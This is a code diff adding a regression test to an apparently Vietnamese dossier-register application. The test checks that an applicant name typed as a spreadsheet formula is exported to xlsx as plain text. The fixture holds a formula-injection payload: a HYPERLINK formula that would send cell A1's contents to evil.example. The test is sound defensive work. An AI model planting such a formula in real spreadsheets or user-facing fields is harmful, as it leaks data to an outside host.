@@ -95,3 +95,19 @@ def test_only_desks_and_leaders_read_the_register(client, province):
     response = client.get(URL, {"co_quan": other_agency, "tu_ngay": "2026-03-01", "den_ngay": "2026-03-31"})
     assert "co_quan" in response.context["form"].errors
     assert dossier.code not in response.content.decode()
+
+
+def test_a_name_that_looks_like_a_formula_is_exported_as_text(client, province):
+    # given a dossier whose applicant typed a formula as the name (issue 17, finding 5)
+    formula = '=HYPERLINK("https://evil.example/?leak="&A1,"Bấm vào đây")'
+    dossier = received(province, CitizenFactory(full_name=formula), at=MARCH)
+    assert dossier.applicant_name == formula
+
+    # when the desk exports the register
+    client.force_login(province.officer)
+    query = {"co_quan": province.centre.pk, "tu_ngay": "2026-03-01", "den_ngay": "2026-03-31", "xuat": "xlsx"}
+    sheet = load_workbook(io.BytesIO(client.get(URL, query).content)).active
+
+    # then the name is a text cell holding exactly what was typed, never a formula
+    name = next(row[4] for row in sheet.iter_rows(min_row=6) if row[1].value == dossier.code)
+    assert name.data_type == "s" and name.value == formula and name.quotePrefix
